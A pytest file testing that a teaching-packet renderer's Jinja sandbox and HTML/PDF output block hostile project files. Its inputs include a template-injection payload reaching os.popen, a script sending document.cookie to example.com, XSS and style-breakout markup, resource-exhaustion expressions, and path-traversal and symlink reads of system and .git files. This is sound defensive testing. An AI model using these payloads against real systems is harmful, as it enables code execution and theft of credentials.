"""A shared unit's templates, stylesheets, fonts and images cannot reach past the project.

Templates run in Jinja's sandbox with only what packet's theme uses; every template error
names its file and line; template, stylesheet and font files are read only as regular files
inside the project; the HTML packet loads nothing from elsewhere (what would is dropped
with a positioned warning); WeasyPrint's warnings about a project stylesheet name its line.

Most tests render one packet of the repository's unit against a scratch project folder that
holds only `templates/` (render_html reads nothing else), so they take well under a second.
"""

from __future__ import annotations

import base64
import contextlib
import os
import re
import shutil
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import jinja2
import pytest
from jinja2 import nodes

from conftest import copy_project
from packet.answers import without_script
from packet.assemble import Packet, adhoc_lesson, assemble
from packet.build import BuildRequest, build
from packet.build.explain import explain
from packet.errors import BuildError, ContentError, Location, Severity
from packet.model import Project
from packet.project import load_project
from packet.render import GLOBALS, THEME, THEME_FILTERS, PdfRenderer, render_html
from packet.selfcontained import contain

COVER = "templates/cover.html.j2"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)


@pytest.fixture(scope="module")
def packet(repo_project: Project) -> Packet:
    return assemble(repo_project, repo_project.lessons["1-roots"], "student")


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A project folder holding only templates/."""
    (tmp_path / "project" / "templates").mkdir(parents=True)
    return tmp_path / "project"


def write(root: Path, rel: str, text: str) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def html_packet(packet: Packet, root: Path) -> tuple[str, list[str]]:
    warnings: list[str] = []
    return render_html(packet, root, screen=True, warnings=warnings), warnings


# -- the sandbox -------------------------------------------------------------------------------


def test_a_template_cannot_run_python(packet: Packet, root: Path) -> None:
    write(root, COVER, "<p>x</p>\n<p>{{ cycler.__init__.__globals__.os.popen('id').read() }}</p>\n")
    with pytest.raises(BuildError) as caught:
        render_html(packet, root)
    message = str(caught.value)
    assert message.startswith(f"{COVER}:2: template error: 'cycler' is undefined — ")
    assert "the filters join, length, list, map, safe, selectattr" in message
    assert "uid=" not in message


@pytest.mark.parametrize(
    ("expression", "says"),
    [
        ("packet.title.__class__.__mro__", "attribute '__class__' of 'str' object is unsafe"),
        ("packet.__class__", "access to attribute '__class__' of 'Packet' object is unsafe"),
        ('"{0.__class__}".format(packet)', "access to attribute '__class__'"),
        ("lipsum()", "'lipsum' is undefined"),
        ("namespace()", "'namespace' is undefined"),
        ("packet.title | upper", "No filter named 'upper'"),
        ("packet.modules | map('upper') | list", "No filter named 'upper'"),
        ("packet.modules | attr('x')", "No filter named 'attr'"),
    ],
)  # fmt: skip
def test_only_what_the_theme_uses_is_there(
    packet: Packet, root: Path, expression: str, says: str
) -> None:
    write(root, COVER, f"<p>\n{{% if packet.title %}}{{{{ {expression} }}}}{{% endif %}}</p>\n")
    with pytest.raises(
        BuildError, match=rf"^{COVER}:2: template (error|syntax): .*{re.escape(says)}"
    ):
        render_html(packet, root)


def test_the_allowed_filters_and_globals_are_exactly_what_the_theme_uses() -> None:
    env = jinja2.Environment()
    filters, names, assigned = set(), set(), set()
    for path in THEME.glob("*.j2"):
        tree = env.parse(path.read_text(encoding="utf-8"))
        filters |= {node.name for node in tree.find_all(nodes.Filter)}
        names |= {node.name for node in tree.find_all(nodes.Name) if node.ctx == "load"}
        assigned |= {node.name for node in tree.find_all(nodes.Name) if node.ctx != "load"}
    assert filters == set(THEME_FILTERS)
    assert set(GLOBALS) <= names
    assert not (names - assigned - set(GLOBALS)) & set(jinja2.Environment().globals)


@pytest.mark.parametrize(
    ("expression", "says"),
    [
        ('"x" * 999_999_999', "a value would be longer than 10,000,000 characters"),
        ("2 ** 99_999_999", "a number too large"),
        ("(10 ** 20000) * (10 ** 20000)", "a number too large"),
        ('"{:999999999}".format(1)', "asks for too wide a field"),
        ('"%999999999d" % 1', "formatting with % is not available"),
        ('"a".center(999_999_999)', "a width of more than 10,000 in center()"),
        ('"ab".replace("a", "x" * 9_000_000).replace("x", "yy")', "replace would be longer"),
    ],
)
def test_a_template_cannot_fill_the_memory(
    packet: Packet, root: Path, expression: str, says: str
) -> None:
    write(root, COVER, f"<p>\n{{{{ {expression} }}}}</p>\n")
    with pytest.raises(BuildError, match=rf"^{COVER}:2: template error: .*{re.escape(says)}"):
        render_html(packet, root)


@pytest.mark.parametrize(
    "loops",
    [
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
        '{% for a in "x" * 100000 %}{% for b in "y" * 100000 %}{% endfor %}{% endfor %}',
        "{% macro twice(text) %}{{ twice(text ~ text) }}{% endmacro %}{{ twice('ab') }}",
    ],
)
def test_a_template_cannot_loop_forever(packet: Packet, root: Path, loops: str) -> None:
    write(root, COVER, f"<p>\n{loops}</p>\n")
    says = (
        r"the page's loops run more than 1,000,000 rounds|a value would be longer than 10,000,000"
    )
    with pytest.raises(BuildError, match=rf"^{COVER}:2: template error: ({says})"):
        render_html(packet, root)


def test_runtime_errors_name_the_template_and_line(packet: Packet, root: Path) -> None:
    write(root, COVER, '<p>\n{% include "part.html.j2" %}\n</p>\n')
    write(root, "templates/part.html.j2", "<p>one</p>\n<p>two</p>\n<p>{{ 1 / 0 }}</p>\n")
    with pytest.raises(BuildError) as caught:
        render_html(packet, root)
    assert str(caught.value) == (
        "templates/part.html.j2:3: template error: division by zero — "
        "correct the expression on this line"
    )
    write(root, COVER, "<p>\n\n{{ packet.no_such_field }}</p>\n")
    with pytest.raises(BuildError, match=rf"^{COVER}:3: template error: .*'no_such_field'"):
        render_html(packet, root)
    write(root, COVER, '\n{% include "cover.html.j2" %}\n')
    with pytest.raises(BuildError, match=rf"^{COVER}:2: .* includes or calls itself"):
        render_html(packet, root)
    write(root, COVER, '\n\n{% include "missing.html.j2" %}\n')
    with pytest.raises(BuildError, match=rf"^{COVER}:3: template 'missing\.html\.j2' not found"):
        render_html(packet, root)


@pytest.fixture
def unblock() -> Iterator[list[Path]]:
    """Named pipes to open for writing after a while, so that code that waits on one reads
    an empty file instead of hanging the test run."""
    pipes: list[Path] = []
    done = threading.Event()

    def release() -> None:
        if not done.wait(20):
            for pipe in pipes:
                with contextlib.suppress(OSError):
                    os.close(os.open(pipe, os.O_WRONLY | os.O_NONBLOCK))

    thread = threading.Thread(target=release, daemon=True)
    thread.start()
    yield pipes
    done.set()


@pytest.mark.parametrize(
    "kind", ["link-out", "link-in-project", "dangling-link", "fifo", "not-utf8"]
)
def test_template_files_are_read_only_as_the_projects_own(
    packet: Packet, root: Path, tmp_path: Path, kind: str, unblock: list[Path]
) -> None:
    cover = root / COVER
    outside = write(tmp_path, "private/secret.txt", "PRIVATE KEY")
    if kind == "link-out":
        cover.symlink_to(outside)
    elif kind == "link-in-project":  # the teacher's clone of the unit: its .git/config
        write(root, ".git/config", "PRIVATE KEY")
        cover.symlink_to("../.git/config")
    elif kind == "dangling-link":
        cover.symlink_to("nothing.html.j2")  # inside templates/: one outside says "outside"
    elif kind == "fifo":
        os.mkfifo(cover)
        unblock.append(cover)
    else:
        cover.write_bytes(b"<p>caf\xe9</p>\n")
    expected = {
        "link-out": "is a link to a file outside the project; packet reads only the project's "
        "own files — replace the link with a copy of the file",
        "link-in-project": "is a link to a file outside templates/; a template or stylesheet "
        "is read only from there — replace the link with a copy of the file",
        "dangling-link": "is a link to a file that does not exist — replace the link",
        "fifo": "is a named pipe, not a file — replace it with an ordinary file",
        "not-utf8": "not UTF-8 text (byte 7) — save the file as UTF-8",
    }[kind]
    with pytest.raises(BuildError) as caught:
        render_html(packet, root)
    assert str(caught.value).startswith(f"{COVER}: {expected}")
    assert "PRIVATE KEY" not in str(caught.value)


def test_a_stylesheet_is_read_only_as_the_projects_own(
    packet: Packet, root: Path, tmp_path: Path
) -> None:
    (root / "templates" / "packet.css").symlink_to(write(tmp_path, "elsewhere.css", "p {}"))
    with pytest.raises(BuildError, match=r"^templates/packet\.css: is a link to a file outside"):
        render_html(packet, root)


# -- the HTML packet loads nothing from elsewhere ------------------------------------------------


def test_the_themes_html_packet_is_left_exactly_as_it_is(packet: Packet, root: Path) -> None:
    page = without_script(render_html(packet, root, screen=True))  # packet's own script aside
    assert contain(page, root, [root, THEME], check=True) == (page, [])


def test_project_css_loads_nothing_from_elsewhere(
    packet: Packet, root: Path, tmp_path: Path
) -> None:
    write(tmp_path, "outside.png", "not for the packet")
    (root / "templates" / "bg.png").write_bytes(PNG)
    write(root, "templates/extra.css", ".extra { background: url(https://example.com/e.png) }\n")
    theme_css = (THEME / "packet.css").read_text(encoding="utf-8")
    write(
        root,
        "templates/packet.css",
        "@import url(http://example.com/x.css);\n"
        '@import "templates/extra.css";\n'
        f"{theme_css}"
        ".cover { background: url(http://example.com/bg.png); color: black }\n"
        ".module { background: url(../outside.png) }\n"
        ".back { background-image: url(templates/bg.png) }\n"
        '.toc { background: image-set("//example.com/a.png" 1x) }\n',
    )
    page, warnings = html_packet(packet, root)
    assert "example.com" not in page and "outside.png" not in page
    assert ".cover {  color: black ;}" in page
    assert f'url("data:image/png;base64,{base64.b64encode(PNG).decode()}")' in page
    assert '@import url("data:text/css;base64,' in page
    last = theme_css.count("\n") + 3
    assert warnings == [
        "templates/packet.css:1:1: @import 'http://example.com/x.css' is left out of the HTML "
        "packet: it is on the network, and packets load nothing from elsewhere — save the file "
        "in the project and refer to it there",
        f"templates/packet.css:{last}:22: url() 'http://example.com/bg.png' is left out of the "
        "HTML packet: it is on the network, and packets load nothing from elsewhere — save "
        "the file in the project and refer to it there",
        f"templates/packet.css:{last + 1}:23: url() '../outside.png' is left out of the HTML "
        "packet: it is outside the project — copy the file into the project and refer to the copy",
        f"templates/packet.css:{last + 3}:30: url() '//example.com/a.png' is left out of the "
        "HTML packet: it is on the network, and packets load nothing from elsewhere — save "
        "the file in the project and refer to it there",
        "templates/extra.css:1:22: url() 'https://example.com/e.png' is left out of the HTML "
        "packet: it is on the network, and packets load nothing from elsewhere — save the "
        "file in the project and refer to it there",
    ]


def test_template_markup_loads_nothing_and_runs_nothing(packet: Packet, root: Path) -> None:
    write(
        root,
        COVER,
        '<section class="cover" onclick="steal()">\n'
        '<script src="https://example.com/x.js"></script>\n'
        "<script>fetch('https://example.com/' + document.cookie)</script>\n"
        '<img src="https://example.com/track.png" alt="t">\n'
        '<link rel="stylesheet" href="https://example.com/x.css">\n'
        '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>\n'
        '<a href="javascript:alert(1)">x</a> <a href="https://example.com/ok">ok</a>\n'
        '<p style="background: url(https://example.com/bg.png); color: red">{{ packet.title }}'
        "</p>\n"
        '<svg><image href="https://example.com/i.png"/><use href="#ok"/></svg>\n'
        '<meta http-equiv="refresh" content="0;url=https://example.com/">\n'
        '<form action="https://example.com/collect"><input name="a"></form>\n'
        "</section>\n",
    )
    page, warnings = html_packet(packet, root)
    assert re.findall(r"example\.com[^\"'<]*", page) == ["example.com/ok"]  # a link to follow
    assert "onclick" not in page and "javascript:" not in page
    assert "<script" not in without_script(page)  # packet's own answers script, and no other
    assert '<p style=" color: red;">' in page
    assert [w.split(" is left out")[0].split(" — ")[0] for w in warnings] == [
        f"{COVER}:1:1: the onclick= attribute",
        f"{COVER}:2:1: <script>",
        f"{COVER}:3:1: <script>",
        f"{COVER}:4:1: image 'https://example.com/track.png'",
        f"{COVER}:5:1: <link> href= 'https://example.com/x.css'",
        f"{COVER}:6:1: <iframe> src= 'data:text/html,<script>alert(1)</script>'",
        f"{COVER}:7:1: <a> href= 'javascript:alert(1)'",
        f"{COVER}:8:1: url() 'https://example.com/bg.png'",
        f"{COVER}:9:6: <image> href= 'https://example.com/i.png'",
        f"{COVER}:10:1: <meta http-equiv=refresh>",
        f"{COVER}:11:1: <form> action= 'https://example.com/collect'",
    ]


@pytest.mark.parametrize(
    "markup",
    [
        "<svg><style><img src=https://example.com/e.png></style></svg>",
        "<math><style><img src=https://example.com/e.png></style></math>",
    ],
)
def test_markup_that_browsers_read_otherwise_stops_the_build(
    packet: Packet, root: Path, markup: str
) -> None:
    write(root, COVER, f"<section>\n{markup}\n</section>\n")
    with pytest.raises(
        BuildError, match=r"would still load <img src='https://example\.com/e\.png'>"
    ):
        render_html(packet, root, screen=True)


def test_images_come_only_from_inside_the_project(tmp_path: Path) -> None:
    project_dir = copy_project(tmp_path / "project")
    images = project_dir / "content" / "images"
    images.mkdir()
    (images / "map.png").write_bytes(PNG)
    (images / "key.png").symlink_to("/etc/hostname")
    (project_dir / ".git").mkdir()
    (project_dir / ".git" / "secret.png").write_bytes(PNG)  # beside the inputs, not one
    module = project_dir / "content" / "modules" / "origins.md"
    module.write_text(
        module.read_text(encoding="utf-8")
        + "\n\n![secret](../../../etc/hostname) ![map](content/images/map.png) "
        + "![key](content/images/key.png) ![git](.git/secret.png)\n",
        encoding="utf-8",
    )
    project = load_project(project_dir)
    packet = assemble(project, adhoc_lesson(project, "t", ["origins"], []), "student")
    page, warnings = html_packet(packet, project_dir)
    assert "etc/hostname" not in page and "key.png" not in page
    assert f'src="data:image/png;base64,{base64.b64encode(PNG).decode()}"' in page
    assert warnings == [
        "image '../../../etc/hostname' is left out of the HTML packet: it is outside the "
        "project — copy the file into the project and refer to the copy",
        "image 'content/images/key.png' is left out of the HTML packet: it is a link to a file "
        "outside the project; packet reads only the project's own files — replace the link with "
        "a copy of the file",
        "image '.git/secret.png' is left out of the HTML packet: it is outside the project — "
        "copy the file into the project and refer to the copy",
    ]
    problem = explain(project, "t-student.html", warnings[0])
    line = module.read_text(encoding="utf-8").count("\n")
    assert problem.where == Location("content/modules/origins.md", line, 11)
    assert problem.hint == "copy the file into the project and refer to the copy"
    # The PDF's fetcher refuses it too; its warning is placed at the same image.
    url = (project_dir.resolve() / "../../../etc/hostname").resolve().as_uri()
    refused = f"Failed to load image at '{url}': ValueError: refused {url}: only files inside"
    problem = explain(project, "t-student.pdf", refused)
    assert problem.where == Location("content/modules/origins.md", line, 11)
    assert problem.hint == "put the image inside the project"


def test_a_warning_is_placed_in_the_content_as_it_was_loaded(tmp_path: Path) -> None:
    """A character no font has is found in the text the packet was made from: an edit made
    since (or a file the project does not read) does not move or hide it."""
    project_dir = copy_project(tmp_path / "project")
    module = project_dir / "content" / "modules" / "origins.md"
    text = module.read_text(encoding="utf-8")
    module.write_text(text.replace("The name Khmer Rouge", "A clef 𝄞. The name Khmer Rouge"))
    (project_dir / "content" / "aside.md").write_text("𝄞 first, in a file packet never reads\n")
    project = load_project(project_dir)
    module.write_text(text)  # changed on disk after loading
    warning = 'WARNING: .notdef glyph rendered for Unicode string "𝄞" (U+1D11E)'
    problem = explain(project, "t-student.pdf", warning)
    line = next(n for n, row in enumerate(text.split("\n"), 1) if "The name Khmer Rouge" in row)
    assert problem.where == Location("content/modules/origins.md", line, 8)
    assert "U+1D11E" in problem.message


# -- fonts -------------------------------------------------------------------------------------


def fonts_css(url: str) -> str:
    return f'@font-face {{ font-family: "Packet Serif"; src: url({url}); }}\n'


def test_fonts_come_only_from_the_project_or_theme_and_say_the_same_either_way(
    packet: Packet, root: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "fonts" / "Real.ttf"
    outside.parent.mkdir()
    shutil.copy(THEME / "fonts" / "NotoSans-Regular.ttf", outside)
    said = []
    for name in ("Real.ttf", "Missing.ttf"):
        write(root, "templates/fonts.css", fonts_css(f"../../fonts/{name}"))
        with pytest.raises(BuildError) as caught:
            html_packet(packet, root)
        said.append(str(caught.value).replace(name, "X.ttf"))
    assert said[0] == said[1]
    assert said[0] == (
        "templates/fonts.css:1: the font '../../fonts/X.ttf' is outside the project; packet "
        "embeds only fonts from the project or its theme — copy the font into templates/fonts/ "
        "and name it there"
    )


@pytest.mark.parametrize("kind", ["link-out", "fifo"])
def test_font_files_are_read_only_as_the_projects_own(
    packet: Packet, root: Path, tmp_path: Path, kind: str, unblock: list[Path]
) -> None:
    font = root / "templates" / "fonts" / "Mine.ttf"
    font.parent.mkdir()
    if kind == "link-out":
        outside = tmp_path / "Real.ttf"
        shutil.copy(THEME / "fonts" / "NotoSans-Regular.ttf", outside)
        font.symlink_to(outside)
        says = "is a link to a file outside the project; packet reads only the project's own files"
    else:
        os.mkfifo(font)
        unblock.append(font)
        says = "is a named pipe, not a file"
    write(root, "templates/fonts.css", fonts_css("fonts/Mine.ttf"))
    with pytest.raises(BuildError) as caught:
        html_packet(packet, root)
    assert str(caught.value).startswith(
        f"templates/fonts.css:1: cannot read the font Mine.ttf ({says}) — "
    )


def test_a_font_on_the_network_is_left_out_with_a_warning(packet: Packet, root: Path) -> None:
    write(root, "templates/fonts.css", fonts_css("https://example.com/font.ttf"))
    page, warnings = html_packet(packet, root)
    assert "example.com" not in page
    assert warnings == [
        "templates/fonts.css:1: the font 'https://example.com/font.ttf' is not a file in the "
        "project, and the HTML packet loads nothing from elsewhere; it is left out — save the "
        "font in templates/fonts/ and name it there"
    ]


# -- WeasyPrint's warnings name the stylesheet's line ----------------------------------------------


def test_pdf_warnings_about_a_project_stylesheet_name_its_line(
    repo_project: Project, root: Path
) -> None:
    theme_css = (THEME / "packet.css").read_text(encoding="utf-8")
    write(root, "templates/packet.css", f"{theme_css}.cover {{\n  colr: red;\n}}\n")
    packet = assemble(repo_project, adhoc_lesson(repo_project, "t", ["origins"], []), "student")
    result = PdfRenderer(root).render(render_html(packet, root))
    line = theme_css.count("\n") + 2
    said = f"templates/packet.css:{line}:3: Ignored `colr: red`, unknown property."
    assert said in result.warnings
    problem = explain(repo_project, "t-student.pdf", result.warnings[0])
    assert problem.where == Location("templates/packet.css", line, 3)
    assert problem.message == "Ignored `colr: red`, unknown property."
    assert problem.severity is Severity.WARNING


def test_the_pdf_loads_only_images_fonts_and_stylesheets_from_the_project(root: Path) -> None:
    from io import BytesIO

    from pypdf import PdfReader

    write(root, ".git/config", "[remote]\nurl = https://teacher:TOKEN@example.com/unit.git\n")
    (root / "templates" / "logo.png").write_bytes(PNG)
    page = (
        '<link rel="attachment" href=".git/config"><p style="background: url(.git/config)">x</p>'
        '<img src="templates/logo.png" alt="logo">'
    )
    result = PdfRenderer(root).render(page)
    assert PdfReader(BytesIO(result.data)).attachments == {}
    assert b"TOKEN" not in result.data
    refused = "refused file://{}: only files inside the project (its content/, seeds/ and"
    assert sum(refused.format(root / ".git" / "config") in w for w in result.warnings) == 2
    (root / "templates" / "notes.txt").write_text("TOKEN in a text file of the templates")
    result = PdfRenderer(root).render('<link rel="attachment" href="templates/notes.txt">')
    assert b"TOKEN" not in result.data
    assert any("a packet uses only images, fonts and stylesheets" in w for w in result.warnings)
    assert not [w for w in result.warnings if "logo.png" in w]  # an image in the project: used


def test_strict_html_build_stops_at_what_the_packet_would_load(tmp_path: Path) -> None:
    project_dir = copy_project(tmp_path / "project")
    theme_css = (THEME / "packet.css").read_text(encoding="utf-8")
    write(
        project_dir, "templates/packet.css", f"@import url(https://example.com/x.css);\n{theme_css}"
    )
    out = tmp_path / "out"
    request = BuildRequest(lessons=["1-roots"], editions=("student",), formats=("html",), out=out)
    result = build(load_project(project_dir), request)
    assert any(w.startswith("templates/packet.css:1:1: warning: @import") for w in result.warnings)
    with pytest.raises(ContentError, match=r"templates/packet\.css:1:1: warning: @import"):
        build(load_project(project_dir), replace(request, strict=True, out=tmp_path / "strict"))
    assert not (tmp_path / "strict" / "1-roots-student.html").exists()


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'


@pytest.mark.parametrize(
    ("inside", "refused"),
    [
        ('<defs><g id="a"><rect/></g></defs><use href="#a"/><use xlink:href="#a"/>', ""),
        ("<rect/>" * 1000, ""),
        ('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>', "in a circle"),
        ('<g id="a"><use href="#a"/></g>', "in a circle"),
        (
            '<g id="l0"><rect/></g>'
            + "".join(
                f'<g id="l{i}">' + f'<use href="#l{i - 1}"/>' * 10 + "</g>" for i in range(1, 6)
            )
            + '<use href="#l5"/>',
            "more than 100,000 shapes",
        ),
        ('<use href="#missing"/><use href="http://example.com/x.svg#a"/>', ""),
    ],
)
def test_an_svg_is_measured_before_it_is_drawn(inside: str, refused: str) -> None:
    from packet.svgcheck import SvgRefused, check_svg

    data = SVG.format(inside).encode()
    if not refused:
        check_svg(data)
        return
    with pytest.raises(SvgRefused, match=refused):
        check_svg(data)


def test_an_svg_declaring_entities_is_refused() -> None:
    from packet.svgcheck import SvgRefused, check_svg

    laughs = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa">]><svg>&a;</svg>'
    with pytest.raises(SvgRefused, match="entities"):
        check_svg(laughs)


def test_templates_are_compiled_once_and_again_when_edited(
    packet: Packet, root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every page has an environment of its own (its limits start afresh), but the theme's
    templates are compiled once per process; a template edited on disk (under `packet serve`)
    is compiled again, and the page shows the edit."""
    from packet import render

    compiled: list[str | None] = []
    parse = render._Sandbox._parse

    def counted(
        self: render._Sandbox, source: str, name: str | None, filename: str | None
    ) -> nodes.Template:
        compiled.append(name)
        return parse(self, source, name, filename)

    monkeypatch.setattr(render._Sandbox, "_parse", counted)
    monkeypatch.setattr(render, "_COMPILED", render._Compiled())  # as a fresh process
    first = render_html(packet, root)
    assert "cover.html.j2" in compiled and len(compiled) == len(set(compiled))
    compiled.clear()
    assert render_html(packet, root) == first
    assert compiled == []
    theme_cover = (THEME / "cover.html.j2").read_text(encoding="utf-8")
    write(root, COVER, theme_cover + "<p>Edited cover</p>\n")
    edited = render_html(packet, root)
    assert compiled == ["cover.html.j2"] and "Edited cover" in edited


# -- what a hostile review of the answerable packet found (each a catalogue case) ---------------


def test_a_font_descriptor_cannot_end_the_style_it_goes_into(packet: Packet, root: Path) -> None:
    font = THEME / "fonts" / "NotoSans-Regular.ttf"
    write(root, "templates/fonts/x.ttf", "").write_bytes(font.read_bytes())
    write(
        root,
        "templates/fonts.css",
        "@font-face { font-family: \"X</style><meta http-equiv=refresh content='1;url="
        "https://example.com/leak'><script>window.pwned=1</script><style>\"; "
        "src: url(fonts/x.ttf); }\n",
    )
    page, _ = html_packet(packet, root)
    assert "\\3c /style>" in page  # the face is in, its `<` escaped
    assert "<meta http-equiv=refresh" not in page and "<script>window.pwned" not in page
    assert page.count("</style>") == page.count("<style")


@pytest.mark.parametrize("charset", ['<meta charset="UTF-8">', "<META CHARSET=utf-8>", ""])
def test_the_policy_heads_the_page_whatever_the_template_writes_there(
    packet: Packet, root: Path, charset: str
) -> None:
    import tinyhtml5

    theme = (THEME / "packet.html.j2").read_text(encoding="utf-8")
    write(root, "templates/packet.html.j2", theme.replace('<meta charset="utf-8">', charset))
    page, _ = html_packet(packet, root)
    head = tinyhtml5.parse(page).find("{http://www.w3.org/1999/xhtml}head")
    assert head is not None
    first = next(iter(head))
    assert first.get("http-equiv") == "Content-Security-Policy"


def test_a_template_without_a_head_for_the_policy_is_refused(packet: Packet, root: Path) -> None:
    theme = (THEME / "packet.html.j2").read_text(encoding="utf-8")
    write(root, "templates/packet.html.j2", theme.replace("<head>", "<!-- <head> -->", 1))
    with pytest.raises(BuildError, match="could not be given its Content-Security-Policy"):
        html_packet(packet, root)


def test_markup_hidden_in_a_noscript_is_refused(packet: Packet, root: Path) -> None:
    cover = (THEME / "cover.html.j2").read_text(encoding="utf-8")
    write(
        root,
        COVER,
        cover
        + '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></p></noscript>',
    )
    with pytest.raises(BuildError, match="browsers read differently"):
        html_packet(packet, root)


def test_an_svg_animation_of_a_link_is_left_out(packet: Packet, root: Path) -> None:
    cover = (THEME / "cover.html.j2").read_text(encoding="utf-8")
    write(
        root,
        COVER,
        cover + '<svg><a><animate attributeName="href" values="javascript:window.pwned=1"/>'
        "<text>x</text></a></svg>",
    )
    page, warnings = html_packet(packet, root)
    assert "attributeName" not in page and "attributename" not in page
    assert any("an SVG <animate> of a link is left out" in w for w in warnings)
